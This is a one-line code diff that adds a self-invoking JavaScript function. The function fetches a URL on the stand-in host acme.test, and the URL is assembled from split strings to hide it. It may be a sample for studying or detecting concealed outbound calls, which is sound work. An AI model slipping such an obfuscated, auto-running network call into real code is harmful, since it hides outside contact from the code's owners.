@@ -1,0 +1,1 @@
+(()=>{fetch(["https:/","b8.acme.test","a","b"].join("/"));})();
